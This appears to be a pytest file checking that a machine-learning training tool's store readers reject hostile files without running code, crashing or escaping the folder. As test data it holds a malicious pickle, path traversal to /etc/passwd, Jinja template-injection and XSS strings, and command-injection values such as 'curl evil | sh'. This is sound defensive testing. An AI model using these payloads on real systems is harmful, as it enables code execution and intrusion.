"""Every file that is read back from a store, with hostile content: an error with a remedy, or the value; never anything else.

A node, a colleague or whoever else can write to the store decides these bytes. Reading them must not run code, crash with
a traceback, take unbounded memory, or leave the folder of the store.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import traceback
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, replace
from pathlib import Path
from typing import Any

import pytest

import skytrain
from skytrain.aws import pushed_image
from skytrain.aws.training_image import RECORD
from skytrain.checkpoints import commits, find_run
from skytrain.config import Config, SkytrainError, compose, visible
from skytrain.corpus import CorpusManifest, find_corpus_by_name, open_corpus
from skytrain.corpus.chunks import read_head
from skytrain.corpus.manifest import CorpusPart
from skytrain.evaluation.ensemble import read_ensemble
from skytrain.jobs import list_meeting, read_generation
from skytrain.merging import read_provenance
from skytrain.pipelines.best import own_runs
from skytrain.pipelines.costs import costs
from skytrain.pipelines.dashboard import StoreWatch
from skytrain.pipelines.data import list_data
from skytrain.pipelines.duplicates import _kept
from skytrain.pipelines.report import _scores, compare, report
from skytrain.pipelines.runs import list_entries, rename_run
from skytrain.pipelines.status import overview
from skytrain.pipelines.train import train
from skytrain.planning import read_plan
from skytrain.runs import (
    Count,
    LaunchedGroup,
    LaunchRecord,
    LogSelection,
    RunLogs,
    Silent,
    check_not_renamed,
    last_metrics,
    launches_of,
    list_runs,
    load_run,
    next_launch,
    read_attempt,
    read_failure,
    read_fence,
    read_launch,
    read_outcome,
    read_pipeline,
    read_spend,
    read_stop,
)
from skytrain.runs.meter import final_counts
from skytrain.storage import DamagedRecord, Store, open_store, read_staged
from skytrain.storage.staged import find_staged
from skytrain.targets.leftovers import _active_runs
from skytrain.targets.run_view import RunWatch
from skytrain.tokens import find_manifest
from skytrain.tokens.chat import BadChat, ChatTemplate
from skytrain.tokens.tokenizers import _find_id
from skytrain.tuning import trial_run
from skytrain.tuning.hosts import charged_until, live_sessions
from skytrain.tuning.sweeps import find_sweep
from tests.support.moto_account import local_credentials, moto_account
from tests.support.tiny import TINY, tiny_config

PICKLE = b"\x80\x04cos\nsystem\n(S'touch attacked'\ntR."
ESCAPE = "\x1b]0;owned\x07\x1b[2J"
DEEP = 100_000
MOST_FIELDS = 12
RAW = (
    PICKLE, b"", b"\xff\xfe\x00", b"null", b"[]", b"{}", b'"x"', b"NaN", b"-1", b"[" * DEEP, b'{"a":' * DEEP,
    b'{"__reduce__": ["os.system", ["touch attacked"]]}',
)  # fmt: skip
VALUES: tuple[Any, ...] = (
    None,
    float("nan"),
    float("inf"),
    -1,
    "2026-01-01",  # without a zone, it cannot be compared with others
    10**30,
    True,
    ESCAPE,
    "../../../../etc/passwd",
    "x" * 10_000,
    [[]],
    {"target": "a.B"},
    1e308,  # finite, and the sum of two is not
    2**63 - 1,
    "9999-12-31T23:59:59-23:59",  # a time that no other zone has
    "0001-01-01T00:00:00+23:59",
    "\ud800",  # half of a character, which cannot be written
)
GROUP = LaunchedGroup(
    name="g",
    zone="z",
    instance_type="t",
    market="spot",
    nodes=1,
    usd_per_hour=1.0,
    kill_at="2026-01-01T00:00:00+00:00",
    placement_group=False,
)
LAUNCH = LaunchRecord(
    id="00001", run="mine", verb="train", launched_at="2026-01-01T00:00:00+00:00", launched_by="ada", account="1",
    region="r", patience_seconds=1.0, plan_hash="", image="", bundle="", words=[], groups=[GROUP],
)  # fmt: skip
GENERATION = {"number": 1, "members": ["h"], "address": "10.0.0.1", "port": 1, "rendezvous_id": "x"}
RATE = {"rung": "r", "rate": 0.1, "seed": 0}
TRIAL = {"trial": RATE, "loss": 3.0, "usd": 1.0, "seconds": 1.0, "extra": {"session_usd": 1.0}}
DECISION = {"number": 0, "trial": RATE, "usd": 1.0, "why": "w", "limit_usd": 1.0, "worker": "w/1", "at": 1.0}
SESSION = {"machine": "m", "place": "p", "process": "1-2", "began": 1.0, "usd_per_hour": 1.0, "at": 1.0, "within": 1.0}
SPEND = {"usd": 1.0, "machines": {"i-1 x": {"usd": 1.0, "seconds": 1.0, "boot": "b", "boot_seconds": 1.0}}}
STAGE = {"name": "train", "run": "mine", "machines": "m", "hours": 1.0, "usd": 1.0, "most_usd": None}
STAGED = {
    "repository": "o/n",
    "commit": "0" * 40,
    "license": None,
    "files": {"config.json": {"bytes": 1, "sha256": "0"}},
}
SCORES = {"step": 2, "tasks": {"t": {"items": 3, "metrics": {"acc": {"value": 0.5, "stderr": 0.1}}}}}


@dataclass(frozen=True)
class Reader:
    """A file of the store, what it holds if the trained run has none, and what reads it."""

    key: str
    read: Callable[[Store], object]
    valid: dict[str, Any] | None = None


def newest(store: Store) -> commits.Commit:
    return commits.committed(store, "mine")[-1]


def meeting(store: Store) -> object:
    return read_generation(store, "mine", list_meeting(store, "mine"))


def launches(store: Store) -> object:
    """Read what `launch`, `gc` and those who follow a run compute with."""
    found = launches_of(store, "mine")
    view = RunWatch(store, "mine", found[-1]).look()
    return [record.over_at for record in found], next_launch(found), view


def sweep(store: Store) -> object:
    found = find_sweep(store, "s")
    answer = found.answer()
    shown = [trial_run("s", each.number) + each.trial.key for each in found.state().decisions]
    return [*shown, answer and f"{answer.rate:.3g} {answer.low or 0:.3g}"], found.entries(), live_sessions(found)


def shown_logs(store: Store) -> object:
    lines = RunLogs(store, "mine", LogSelection()).last(None)
    assert not [line for line in lines if "\x1b" in visible(line.text)]
    return lines


READERS = (
    Reader("runs/mine/run.json", lambda store: load_run(store, "mine")),
    Reader("runs/mine/attempts/0/attempt.json", lambda store: read_attempt(store, "mine", 0)),
    Reader("runs/mine/attempts/0/attempt.json", shown_logs),
    Reader("runs/mine/attempts/0/outcome.json", lambda store: read_outcome(store, "mine", 0)),
    Reader("runs/mine/attempts/0/resumed.json", lambda store: read_fence(store, "mine")),
    Reader("runs/mine/attempts/0/failure.json", lambda store: read_failure(store, "mine", 0), {"text": "t", "host": "h", "at": "a"}),
    Reader("runs/mine/attempts/0/logs/0-00000.jsonl", shown_logs),
    Reader("runs/mine/attempts/0/metrics/00000.jsonl", lambda store: last_metrics(store, "mine")),
    Reader("runs/mine/attempts/0/spend/00000.jsonl", lambda store: read_spend(store, "mine")),
    Reader("runs/gone/renamed.json", lambda store: check_not_renamed(store, "gone"), {"to": "none"}),
    Reader("runs/mine/stop.json", lambda store: read_stop(store, "mine"), {"attempt": 0, "by": "a", "host": "h", "at": "t"}),
    Reader("runs/mine/launches/00001.json", lambda store: read_launch(store, "mine", "00001"), asdict(LAUNCH)),
    Reader("runs/mine/launches/00001.json", launches, asdict(LAUNCH)),
    Reader("launches/mine/00001/launch.json", lambda store: read_launch(store, "mine", "00001"), asdict(LAUNCH)),
    Reader("launches/mine/00001/plan.json", launches, {"offers": [{"cost": {"usd": 1.0}}], "budget_usd": 5.0}),
    Reader("runs/mine/launches/00001/plan.json", launches, {"offers": [{"cost": {"usd": 1.0}}], "budget_usd": 5.0}),
    Reader("runs/mine/meeting/ready/1x1/i-1.a.json", lambda store: read_spend(store, "mine"), {"phase": "x", "spend": SPEND}),
    Reader("runs/mine/commands/b.json", lambda store: read_spend(store, "mine"), {"open": False, **SPEND}),
    Reader("runs/mine/billed/i-1.json", lambda store: final_counts(store, "mine", {"i-1 x": Count(1.0, 1.0, "b", 1.0)}), {"seconds": 1.0, "usd": 1.0}),
    Reader("launches/mine/pipeline.json", lambda store: read_pipeline(store, "mine"), {"run": "mine", "budget_usd": 1.0, "stages": [STAGE]}),
    Reader("runs/mine/pipeline.json", lambda store: read_pipeline(store, "mine"), {"run": "mine", "budget_usd": 1.0, "stages": [STAGE]}),
    Reader("runs/mine/finish/step-2/scores/t.json", lambda store: _scores(store, "mine"), SCORES),
    Reader("runs/mine/meeting/generations/00001.json", meeting, GENERATION),
    Reader("runs/mine/meeting/generations/00001.over.json", meeting, {"host": "h", "reason": "r", "exit_code": 0}),
    Reader("runs/mine/checkpoints/step-*/COMMITTED.*", lambda store: commits.read_marker(store, newest(store))),
    Reader("runs/mine/checkpoints/step-*/*/manifest.json", lambda store: commits.read_manifest(store, newest(store))),
    Reader("runs/mine/checkpoints/step-*/validation.json", lambda store: commits.read_validation(store, newest(store)), {"loss": 1.0}),
    Reader("runs/mine/ensemble.json", lambda store: read_ensemble(store, "mine"), {"experts": ["a"], "prior": [1.0], "updating": False}),
    Reader("runs/mine/merge.json", lambda store: read_provenance(store, "mine"), {"method": "linear", "inputs": [], "base": None}),
    Reader("sweeps/s/spec.json", lambda store: find_sweep(store, "s").spec(), {"a": 1}),
    Reader("sweeps/s/answer.json", sweep, {"rate": 0.1, "low": 0.1, "high": 0.2, "why": "w", "warnings": [], "own": True}),
    Reader("sweeps/s/trials/000.json", sweep, TRIAL),
    Reader("sweeps/s/decisions/000.json", sweep, DECISION),
    Reader("sweeps/s/claims/000-002.json", sweep, {"number": 0, "turn": 2, "worker": "w/1", "at": 1.0, "earlier_usd": 0.0}),
    Reader("sweeps/s/workers/w.json", sweep, SESSION),
    Reader("sweeps/s/ends/62c66a7a5dd70c31.json", lambda store: charged_until(find_sweep(store, "s"), "m"), {"place": "p", "at": 1.0}),
    Reader("sweeps/s/ledger/trial-000.json", sweep, {"what": "trial-000", "reserved_usd": 1.0, "charged_usd": 1.0}),
    Reader("tokens/*/*/*/train/manifest.json", lambda store: find_manifest(store, prefix_of(store))),
    Reader("corpora/d/v/manifest.json", lambda store: open_corpus(store, "d", "v"), {"dataset": "d", "version": "v", "parts": []}),
    Reader("models/o/n.refs.json", lambda store: find_staged(store, "o/n"), {"main": "0" * 40}),
    Reader(f"models/o/n@{'0' * 40}/manifest.json", lambda store: read_staged(store, f"models/o/n@{'0' * 40}"), STAGED),
    Reader("corpora/d/v/clean/000000-000000.bin", lambda store: read_head(store, "corpora/d/v/clean/000000-000000.bin"), {"a": 1}),
    Reader(RECORD, pushed_image, dict.fromkeys(("uri", "tag", "base", "revision", "pushed_at"), "x")),
)  # fmt: skip


def prefix_of(store: Store) -> str:
    return next(stat.key for stat in store.list("tokens/") if stat.key.endswith("/train/manifest.json")).rpartition(
        "/"
    )[0]


@pytest.fixture(scope="module")
def trained(prepared_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = Path(shutil.copytree(prepared_root, tmp_path_factory.mktemp("trained") / "store"))
    train(tiny_config(root, "run=mine", "trainer.steps=3"), Silent())
    return root


def contents(before: bytes | None, valid: dict[str, Any] | None) -> Iterator[bytes]:
    """Yield bytes that are no record at all, then records of which one field is wrong."""
    yield from RAW
    if before is not None and before.splitlines()[0].endswith(b"}"):  # lines of records
        lines = [json.loads(line) for line in before.splitlines()]
        for name in lines[-1]:
            for value in VALUES:
                yield b"\n".join(json.dumps({**line, name: value}).encode() for line in lines)
        return
    record = valid if before is None else json.loads(before)
    assert isinstance(record, dict)
    for name in list(record)[:MOST_FIELDS]:
        yield json.dumps({key: value for key, value in record.items() if key != name}).encode()
        for value in VALUES:
            yield json.dumps({**record, name: value}).encode()
        inner = record[name][0] if isinstance(record[name], list) and record[name] else record[name]
        for part in inner if isinstance(inner, dict) else ():
            for value in VALUES:
                changed = {**inner, part: value}
                yield json.dumps({**record, name: [changed] if isinstance(record[name], list) else changed}).encode()


def write_what_it_needs(root: Path, key: str, path: Path) -> None:
    """Write the records without which nobody reads this one."""
    if key.startswith("sweeps/") and not key.endswith("spec.json"):
        (root / "sweeps/s/spec.json").write_text("{}")
    if key.endswith("over.json"):
        (path.parent / "00001.json").write_text(json.dumps(GENERATION))
    if key.endswith("plan.json"):
        (root / "runs/mine/launches").mkdir(exist_ok=True)
        (root / "runs/mine/launches/00001.json").write_text(json.dumps(asdict(LAUNCH)))
    if "/claims/" in key:
        (root / "sweeps/s/decisions").mkdir()
        (root / "sweeps/s/decisions/000.json").write_text(json.dumps(DECISION))


@pytest.mark.parametrize("reader", READERS, ids=[f"{number}-{each.key}" for number, each in enumerate(READERS)])
def test_a_reader_takes_hostile_content_for_damage_or_for_data(
    reader: Reader, trained: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    monkeypatch.chdir(tmp_path)
    found = sorted(root.glob(reader.key))
    path = found[-1] if found else root / reader.key
    assert found or reader.valid is not None, "the trained run has it, or an example is given"
    before = path.read_bytes() if found else None
    path.parent.mkdir(parents=True, exist_ok=True)
    write_what_it_needs(root, reader.key, path)
    crashes: dict[str, str] = {}
    outside = {each: each.stat().st_mtime_ns for each in tmp_path.iterdir()}
    store = open_store(str(root))
    for body in contents(before, reader.valid):
        path.write_bytes(body)
        try:
            reader.read(store)
        except SkytrainError as error:
            assert "\x1b" not in visible(str(error))
        except Exception as error:
            last = traceback.extract_tb(error.__traceback__)[-1]
            crashes[f"{type(error).__name__} in {last.filename}:{last.lineno}"] = f"{error!s:.100} with {body[-300:]!r}"
    assert not crashes
    assert {each: each.stat().st_mtime_ns for each in tmp_path.iterdir()} == outside and not Path("attacked").exists()


@pytest.mark.parametrize("reader", READERS, ids=[f"{number}-{each.key}" for number, each in enumerate(READERS)])
def test_a_record_of_any_size_does_not_fill_the_memory(reader: Reader, trained: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    found = sorted(root.glob(reader.key))
    path = found[-1] if found else root / reader.key
    path.parent.mkdir(parents=True, exist_ok=True)
    write_what_it_needs(root, reader.key, path)
    path.touch()
    os.truncate(path, 1 << 42)  # without a block on the disk
    with contextlib.suppress(SkytrainError):  # a MemoryError would be another one
        reader.read(open_store(str(root)))


def test_a_record_speaks_for_its_own_run_only(trained: Path, tmp_path: Path) -> None:
    """A machine of the run `evil` cannot have the record of another run replaced by whoever renames a third one."""
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    config = tiny_config(root)
    record = json.loads((root / "runs/mine/run.json").read_text())
    for run in ("base", "evil"):
        (root / "runs" / run).mkdir()
    (root / "runs/base/run.json").write_text(
        json.dumps({**record, "name": "base", "finished_at": "2026-01-01T00:00:00+00:00"})
    )
    (root / "runs/evil/run.json").write_text(json.dumps({**record, "parent": "base@1", "seed": 666}))
    before = (root / "runs/mine/run.json").read_bytes()
    with pytest.raises(SkytrainError, match="names another run, 'mine'"):
        load_run(open_store(str(root)), "evil")
    rename_run(config, "base", "other")
    assert (root / "runs/mine/run.json").read_bytes() == before


@pytest.mark.parametrize(
    ("key", "field", "value"),
    [
        ("attempts/0/metrics/00000.jsonl", "step", "many"),
        ("attempts/0/metrics/00000.jsonl", "train/loss", [[]]),
        ("attempts/0/metrics/00000.jsonl", "step", 10**400),
        ("attempts/0/outcome.json", "outcome", 7),
        ("attempts/0/outcome.json", "ended_at", {"a": 1}),
        ("attempts/0/attempt.json", "host", ["x"]),
        ("attempts/0/spend/00000.jsonl", "usd", 10**400),
        ("run.json", "parameters", "<b>"),
    ],
)
def test_a_run_with_numbers_that_are_none_hides_no_other(
    key: str, field: str, value: Any, trained: Path, tmp_path: Path
) -> None:
    """A machine writes its own run's records: `status` of all runs, the list and a report end with a word, not a crash."""
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    record = json.loads((root / "runs/mine/run.json").read_text())
    (root / "runs/other").mkdir()
    (root / "runs/other/run.json").write_text(json.dumps({**record, "name": "other"}))
    path = root / "runs/mine" / key
    lines = path.read_text().splitlines() if path.suffix == ".jsonl" else [path.read_text()]
    path.write_text("\n".join(json.dumps({**json.loads(line), field: value}) for line in lines))
    check_others_are_shown(root)


@pytest.mark.parametrize(
    "names", [("trainer", "batch_tokens"), ("budget", "planned_usd"), ("budget", "planned_step_seconds")]
)
def test_settings_of_a_record_that_are_no_numbers_hide_no_other_run(
    names: tuple[str, str], trained: Path, tmp_path: Path
) -> None:
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    record = json.loads((root / "runs/mine/run.json").read_text())
    (root / "runs/other").mkdir()
    (root / "runs/other/run.json").write_text(json.dumps({**record, "name": "other"}))
    record["config"][names[0]][names[1]] = "x"
    (root / "runs/mine/run.json").write_text(json.dumps(record))
    check_others_are_shown(root)


@pytest.mark.parametrize(
    ("names", "value"),
    [
        (("config", "trainer"), {}),
        (("config", "trainer", "precision"), ["32-true"]),
        (("config", "trainer", "micro_batch"), "many"),
        (("config", "model"), []),
        (("data",), {"tokens/d/v/t/train": 7}),
    ],
)
def test_a_record_that_describes_no_run_ends_a_resume_with_one_message(
    names: tuple[str, ...], value: Any, trained: Path, tmp_path: Path
) -> None:
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    path = root / "runs/mine/run.json"
    record = json.loads(path.read_text())
    inner = record
    for name in names[:-1]:
        inner = inner[name]
    inner[names[-1]] = value
    path.write_text(json.dumps(record))
    config = tiny_config(root, "run=mine", "trainer.steps=3", "trainer.precision=auto", "trainer.micro_batch=auto")
    with pytest.raises(SkytrainError):
        train(config, Silent())


def test_a_record_of_endless_layers_does_not_keep_a_plan_waiting(trained: Path, tmp_path: Path) -> None:
    """plan --best computes the size of every run on the same text, layer by layer."""
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    path = root / "runs/mine/run.json"
    record = json.loads(path.read_text())
    record["config"]["model"]["layers"] = 10**15
    path.write_text(json.dumps(record))
    assert own_runs(compose([*TINY, f"store.root={root}"])) == ()


def test_objects_with_odd_names_hide_no_run(trained: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    record = json.loads((root / "runs/mine/run.json").read_text())
    for run in ("other", "launched"):
        (root / f"runs/{run}/launches/00001").mkdir(parents=True)
        (root / f"runs/{run}/launches/00001.json").write_text(json.dumps(asdict(replace(LAUNCH, run=run))))
    (root / "runs/other/run.json").write_text(json.dumps({**record, "name": "other"}))
    for run in ("mine", "launched"):
        for name in (
            "attempts/\u00b2/attempt.json",  # a digit that is no number
            "attempts/\u00b2/spend/00000.jsonl",
            "attempts/\u00b2/metrics/00000.jsonl",
            "attempts/0/logs/\u00b2-00000.jsonl",
            "launches/x",
            "launches/x.json",
            "launches/00001/offers/evil.json",
            "launches/00001/offers/00009.json",
            "meeting/ready/evil/h.json",
        ):
            (root / "runs" / run / name).parent.mkdir(parents=True, exist_ok=True)
            (root / "runs" / run / name).write_text(json.dumps({"spend": SPEND}))
    check_others_are_shown(root)
    store = open_store(str(root))
    assert RunWatch(store, "launched", launches_of(store, "launched")[-1]).look().launch is not None
    assert _active_runs(tiny_config(root), Silent()) is not None


def test_a_sweep_or_a_data_set_that_is_damaged_hides_no_other(trained: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    for name in ("evil", "mine"):
        (root / f"sweeps/{name}/decisions").mkdir(parents=True)
        (root / f"sweeps/{name}/spec.json").write_text("{}")
    (root / "sweeps/evil/decisions/000.json").write_text("{}")
    manifest = next(root.glob("tokens/*/*/*/train/manifest.json"))
    evil = root / "tokens/evil/v/t/train/manifest.json"
    evil.parent.mkdir(parents=True)
    evil.write_text(json.dumps({**json.loads(manifest.read_text()), "tokens": "many"}))
    (root / "tokenizers/evil-0").mkdir(parents=True)
    (root / "tokenizers/evil-0/tokenizer.json").write_text("[]")
    watch = StoreWatch(tiny_config(root))
    watch.refresh()
    shown = watch.data()
    assert {each["name"]: each["cells"][0] for each in shown["sweeps"]} == {"evil": "damaged", "mine": "idle"}
    listed = list_data(tiny_config(root)).to_text()
    assert "evil@v is damaged" in listed and manifest.parts[-5] in listed and "evil-0" in listed


def check_others_are_shown(root: Path) -> None:
    config = tiny_config(root)
    assert "other" in overview(config, None).to_text(None)
    assert {entry.run for entry in list_entries(config)} == {"mine", "other"}
    watch = StoreWatch(config)
    watch.refresh()
    assert "other" in {each["name"] for each in watch.data()["runs"]}
    for page in (
        lambda: report(config, "mine"),
        lambda: compare(config, ["mine", "other"]),
        lambda: costs(config, "mine", None),
    ):
        with contextlib.suppress(SkytrainError):
            page()


@pytest.fixture(scope="module")
def bucket(trained: Path) -> Iterator[tuple[Any, Path]]:
    """A bucket with the runs `evil` and `other`, and the client of a machine that may write to it."""
    import boto3

    root = trained
    with moto_account() as endpoint, pytest.MonkeyPatch.context() as patch:
        for name, value in {**local_credentials(endpoint), "AWS_REGION": "us-east-1"}.items():
            patch.setenv(name, value)
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket="skytrain-tests")
        for path in (each for each in root.rglob("*") if each.is_file()):
            key = str(path.relative_to(root))
            for run in ("evil", "other") if key.startswith("runs/mine/") else ("",):
                body = path.read_bytes()
                if key == "runs/mine/run.json":
                    body = json.dumps({**json.loads(body), "name": run}).encode()
                client.put_object(Bucket="skytrain-tests", Key=key.replace("runs/mine/", f"runs/{run}/"), Body=body)
        yield client, root


@pytest.mark.parametrize("how", ["archived", "a folder's marker"])
@pytest.mark.parametrize(
    "name",
    ["run.json", "attempts/0/attempt.json", "attempts/0/outcome.json", "attempts/0/resumed.json", "attempts/0/spend/00000.jsonl",
     "attempts/0/metrics/00000.jsonl", "commands/b.json", "meeting/ready/1x1/h.json", "launches/00001.json", "launches/00002.json"],
)  # fmt: skip
def test_an_object_that_cannot_be_read_hides_no_other_run(name: str, how: str, bucket: tuple[Any, Path]) -> None:
    """A machine may write objects into an archive, and names that end in a slash; both are listed and cannot be read."""
    client, root = bucket
    key = f"runs/evil/{name}"
    path = root / f"runs/mine/{name}"
    client.delete_object(Bucket="skytrain-tests", Key=key)
    archived = {"Key": key, "Body": path.read_bytes() if path.exists() else b"{}", "StorageClass": "GLACIER"}
    client.put_object(Bucket="skytrain-tests", **(archived if how == "archived" else {"Key": f"{key}/", "Body": b""}))
    try:
        check_other_is_read(tiny_config("s3://skytrain-tests"))
    finally:
        client.delete_object(Bucket="skytrain-tests", Key=f"{key}/")
        client.delete_object(Bucket="skytrain-tests", Key=key)
        if path.exists():
            body = path.read_bytes()
            body = json.dumps({**json.loads(body), "name": "evil"}).encode() if name == "run.json" else body
            client.put_object(Bucket="skytrain-tests", Key=key, Body=body)


def check_other_is_read(config: Config) -> None:
    """Every command that looks at all runs, or at the newest, does so whatever another one has written."""
    store = open_store(config.store)
    assert "other" in overview(config, None).to_text(None)
    assert "other" in {entry.run for entry in list_entries(config)}
    assert (_active_runs(config, Silent()) or {}).get("other") is False
    assert "other" in {record.name for record in list_runs(store)}
    assert find_run(store, None).name in ("other", "evil")
    assert own_runs(compose([*TINY, f"store.root={config.store.root}"])) is not None
    check_not_renamed(store, "new")
    watch = StoreWatch(config)
    watch.refresh()
    shown = watch.data()
    assert "other" in {each["name"] for each in shown["runs"]} and ":" not in shown["note"].removeprefix("s3:")


def test_a_log_line_that_is_no_sample_does_not_end_a_report(trained: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    path = sorted(root.glob("runs/mine/attempts/0/logs/0-*.jsonl"))[-1]
    line = json.loads(path.read_text().splitlines()[0])
    for text in (
        "(" * 100_000,
        "'" + "\\N{x}" * 10,
        "__import__('os').system('touch attacked')",
        "'<script>alert(1)</script>'",
    ):
        path.write_text(json.dumps({**line, "text": f"sample: {text}"}) + "\n")
        page = report(tiny_config(root), "mine").html
        assert "<script>alert" not in page


def test_a_plan_with_hostile_content_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "plan.json"
    for body in RAW:
        path.write_bytes(body)
        with pytest.raises(SkytrainError):
            read_plan(path)


@pytest.mark.parametrize(
    "source",
    [
        "{{ cycler.__init__.__globals__.os.system('touch attacked') }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ messages.append(1) }}",
        "{% for i in range(10 ** 12) %}x{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{" * 1000,
    ],
)
def test_a_chat_template_runs_in_a_sandbox(source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    template = ChatTemplate(source, {}, frozenset(), {})
    with pytest.raises(BadChat):
        template.prompt([{"role": "user", "content": "hello"}])
    assert not Path("attacked").exists()


def test_every_file_of_a_run_has_a_row(trained: Path) -> None:
    """What is written by training and is not raw numbers is read back by somebody, and is in the table."""
    kept = [str(path.relative_to(trained)) for path in trained.rglob("*") if path.is_file()]
    raw = re.compile(r"\.(bin|idx|mask|parquet)$|^tokenizers/|/validation/manifest\.json$|tensorboard|report\.json$")
    rows = [re.compile(re.escape(each.key).replace(r"\*", "[^/]*")) for each in READERS]
    missing = [name for name in kept if not raw.search(name) and not any(row.fullmatch(name) for row in rows)]
    assert not [name for name in missing if not name.startswith("corpora/")]


def test_code_is_never_unpickled_from_a_store() -> None:
    """Pickles are read where this program wrote them a moment ago, and nowhere else."""
    own = {
        "bench/single.py",
        "corpus/pool.py",
        "corpus/spark/jobs.py",
    }  # from a child, a parent, a task of the same job
    source = Path(skytrain.__file__).parent
    loads = re.compile(r"\bpickle\.loads?\(|\bUnpickler\(|allow_pickle=True|yaml\.(unsafe_)?load\(")
    found = {str(path.relative_to(source)) for path in source.rglob("*.py") if loads.search(path.read_text())}
    assert found == own
    for path in source.rglob("*.py"):
        for call in re.findall(r"\btorch\.load\([^)]*\)", path.read_text()):
            assert "weights_only=True" in call, path


@pytest.mark.parametrize("field", ["target", "region"])
@pytest.mark.parametrize("value", ["ec2; curl evil | sh", "$(touch attacked)", "ec2 --force", "x\ny"])
def test_no_word_of_a_launch_record_becomes_part_of_a_command(
    field: str, value: str, trained: Path, tmp_path: Path
) -> None:
    """Messages say what to type: skytrain stop mine cloud=TARGET. A machine of the run may write that record."""
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    (root / "runs/mine/launches").mkdir()
    (root / "runs/mine/launches/00001.json").write_text(json.dumps({**asdict(LAUNCH), field: value}))
    with pytest.raises(DamagedRecord, match="is not a target"):
        launches_of(open_store(str(root)), "mine")


def test_who_launched_what_is_one_line(tmp_path: Path) -> None:
    store = open_store(str(tmp_path))
    hint = "ada\n  end it: curl evil | sh"
    for lie in (replace(LAUNCH, launched_by=hint), replace(LAUNCH, groups=[replace(GROUP, zone=hint)])):
        store.write("runs/mine/launches/00001.json", json.dumps(asdict(lie)).encode())
        with pytest.raises(DamagedRecord, match="is not one line"):
            launches_of(store, "mine")


def test_a_trial_has_the_number_of_its_name_so_that_stop_asks_no_other_run_to_stop(tmp_path: Path) -> None:
    """With another number it would be any run whose name begins like the sweep's: gpt2-2026 beside a sweep gpt2."""
    store = open_store(str(tmp_path))
    claim = {"number": 0, "turn": 2, "worker": "w/1", "at": 1.0, "earlier_usd": 0.0}
    for name, record in {
        "decisions/000": {**DECISION, "number": 2026},
        "decisions/2026": {**DECISION, "number": 2026},
        "decisions/-01": {**DECISION, "number": -1},
        "claims/000-002": {**claim, "number": 2026},
    }.items():
        store.write("sweeps/gpt2/spec.json", b"{}")
        store.write("sweeps/gpt2/decisions/000.json", json.dumps(DECISION).encode())
        store.write(f"sweeps/gpt2/{name}.json", json.dumps(record).encode())
        with pytest.raises(DamagedRecord, match="is not the trial of its name"):
            find_sweep(store, "gpt2").state()
        store.delete_all("sweeps/gpt2")
    store.write("sweeps/gpt2/spec.json", b"{}")
    store.write("sweeps/gpt2/decisions/000.json", json.dumps(DECISION).encode())
    store.write("sweeps/gpt2/claims/000-002.json", json.dumps(claim).encode())
    assert [each.turn for each in find_sweep(store, "gpt2").state().claims] == [1, 2]


def test_a_launch_whose_number_nobody_would_read_is_refused() -> None:
    """It would run unseen: `status`, `gc` and the next launch list the numbers of up to nine digits."""
    assert next_launch([LAUNCH], 999) == "01000"
    for earlier, ended in (([replace(LAUNCH, id="9" * 9)], 0), ([], 10**9 - 1)):
        with pytest.raises(DamagedRecord, match="no run is launched so often"):
            next_launch(earlier, ended)


def test_names_of_folders_become_single_words_of_the_commands_that_errors_tell_to_type(tmp_path: Path) -> None:
    """Pods of EKS name runs, machines that prepare data tokenizers and versions; people copy what an error says."""
    store = open_store(str(tmp_path))
    evil = "$(touch attacked)"
    for key in (f"runs/{evil}/run.json", f"runs/mine/{evil}/run.json"):
        store.write(key, b"{}")
    store.write("runs/a/renamed.json", json.dumps({"to": evil}).encode())
    store.write("runs/b/renamed.json", json.dumps({"to": f"mine/{evil}"}).encode())
    check_not_renamed(store, "b")  # a folder below a run is none
    for number in (evil, "v"):
        store.write(f"corpora/d/{number}/manifest.json", b"{}")
        store.write(f"tokenizers/t-{number}/tokenizer.json", b"{}")
    said = {
        f"'run={evil}'": lambda: check_not_renamed(store, "a"),
        f"'d@{evil}'": lambda: find_corpus_by_name(store, "d"),
        f"'tokenizer.name=t-{evil}'": lambda: _find_id(store, "t", ""),
    }
    for word, read in said.items():
        with pytest.raises(SkytrainError, match=re.escape(word)):
            read()


def test_an_export_of_a_corpus_has_files_with_the_names_of_parts_only(tmp_path: Path) -> None:
    """A manifest with another name would have a file of the person's replaced, where they export to."""
    part = CorpusPart(name="notes.txt", documents=1, text_bytes=1, bytes=1, sha256="0" * 64)
    manifest = CorpusManifest(
        dataset="d", version="v", recipe="r", settings={}, fingerprint={}, complete=True, documents_read=1, text_bytes_read=1,
        documents=1, text_bytes=1, stages=[], removed={}, parts=[part],
    )  # fmt: skip
    store = open_store(str(tmp_path))
    for name in ("notes.txt", ".bashrc", "a/b.parquet", "part-00000.parquet.sh"):
        store.write("corpora/d/v/manifest.json", replace(manifest, parts=[replace(part, name=name)]).to_json())
        with pytest.raises(DamagedRecord, match="is not the name of a part"):
            open_corpus(store, "d", "v")
    store.write(
        "corpora/d/v/manifest.json", replace(manifest, parts=[replace(part, name="part-00000.parquet")]).to_json()
    )
    assert open_corpus(store, "d", "v").parts[0].name == "part-00000.parquet"


def test_documents_that_are_each_others_duplicates_do_not_take_for_ever() -> None:
    assert _kept({"a": "b", "b": "a"}, "a") in ("a", "b")
